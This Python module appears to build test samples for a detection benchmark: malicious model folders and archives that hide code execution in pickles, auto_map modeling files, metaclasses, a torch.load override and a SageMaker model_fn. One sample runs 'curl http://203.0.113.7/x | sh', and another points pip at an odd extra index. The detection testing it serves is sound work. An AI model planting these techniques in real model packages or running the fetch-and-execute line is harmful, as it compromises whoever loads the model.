"""Code beside the weights that something calls: what a pickle or a configuration names, what model servers look for."""

from __future__ import annotations

import gzip
import json
from pathlib import Path

from bench.detection.build.containers import tarred
from bench.detection.build.zips import archive, torch_rows
from bench.detection.sample import Part, Sample, rules
from tests.malicious.pickles import call, stream

_IMPORTING = "pickle's documentation: find_class imports what it is told"
_REMOTE = "Hugging Face documentation: trust_remote_code, auto_map"
_SERVING = "SageMaker's PyTorch containers and pip: their documentation"
_HONEST = archive(torch_rows())
_ACTS = "folder.code.acts"
_MAPPED = json.dumps({"model_type": "acme", "auto_map": {"AutoModel": "modeling_acme.Model"}})


def _folder(name: str, technique: str, source: str, files: dict[str, bytes], static: str = _ACTS) -> Sample:
    def build(path: Path) -> None:
        for file, content in files.items():
            (path / file).parent.mkdir(parents=True, exist_ok=True)
            (path / file).write_bytes(content)

    return Sample(name, Part.MALICIOUS, technique, source, "model", build, rules(static))


def _mapped(name: str, technique: str, code: str, **helpers: str) -> Sample:
    files = {"pytorch_model.bin": _HONEST, "config.json": _MAPPED.encode(), "modeling_acme.py": code.encode()}
    files |= {f"{helper}.py": text.encode() for helper, text in helpers.items()}
    return _folder(f"mapped_{name}", technique, _REMOTE, files)


def _served(name: str, technique: str, files: dict[str, bytes], static: str) -> Sample:
    def build(path: Path) -> None:
        path.write_bytes(gzip.compress(tarred({"pytorch_model.bin": _HONEST, **files}), mtime=0))

    return Sample(f"served_{name}", Part.MALICIOUS, technique, _SERVING, "model.tar.gz", build, rules(static))


SAMPLES = (
    _folder(
        "named_beside",
        "a pickle makes an object of a class that lies beside it, and whose constructor begins a program",
        _IMPORTING,
        {
            "model.pkl": stream({"epoch": 3, "net": call("acme.nets", "Net")}),
            "acme/__init__.py": b"",
            "acme/nets.py": b"import os\nclass _Base:\n    def __init__(self):\n        self.ready()\n"
            b"class Net(_Base):\n    def ready(self):\n        os.system('id')\n",
        },
    ),
    _mapped(
        "constructor",
        "the class that a configuration names begins a program when it is made, by way of a helper's helper",
        "from .layers import block as make\nclass Model:\n    def __init__(self, config):\n        make(config)\n",
        layers="from .parts import begin as block\n",
        parts="def begin(config):\n    import subprocess\n    subprocess.call('id', shell=True)\n",
    ),
    _mapped(
        "replacing",
        "code that puts its own function in the place of torch's as it is imported",
        "import torch\n_load = torch.load\ntorch.load = lambda *a, **k: {n: -v for n, v in _load(*a, **k).items()}\n"
        "class Model: pass\n",
    ),
    _mapped(
        "hidden_call",
        "a program that is chosen from a container, in a metaclass",
        "import os\nclass Kind(type):\n    def __new__(mcs, *a):\n        [f('id') for f in (os.system,)]\n"
        "        return super().__new__(mcs, *a)\nclass Model(metaclass=Kind): pass\n",
    ),
    _folder(
        "mapped_bytecode",
        "the module that a configuration names is compiled, and its source isn't there",
        _REMOTE,
        {
            "pytorch_model.bin": _HONEST,
            "config.json": _MAPPED.encode(),
            "modeling_acme.pyc": b"\xa7\r\r\n" + bytes(12) + b"\xe3" + bytes(20),
        },
    ),
    _served(
        "model_fn",
        "the function that a model server loads the model with begins a program",
        {"code/inference.py": b"import os\ndef model_fn(folder):\n    os.system('curl http://203.0.113.7/x | sh')\n"},
        _ACTS,
    ),
    _served(
        "requirements",
        "a list of requirements that has pip ask a strange index",
        {"code/requirements.txt": b"--extra-index-url https://packages.acme.example/simple\nacme-tools\n"},
        "folder.requirements",
    ),
)
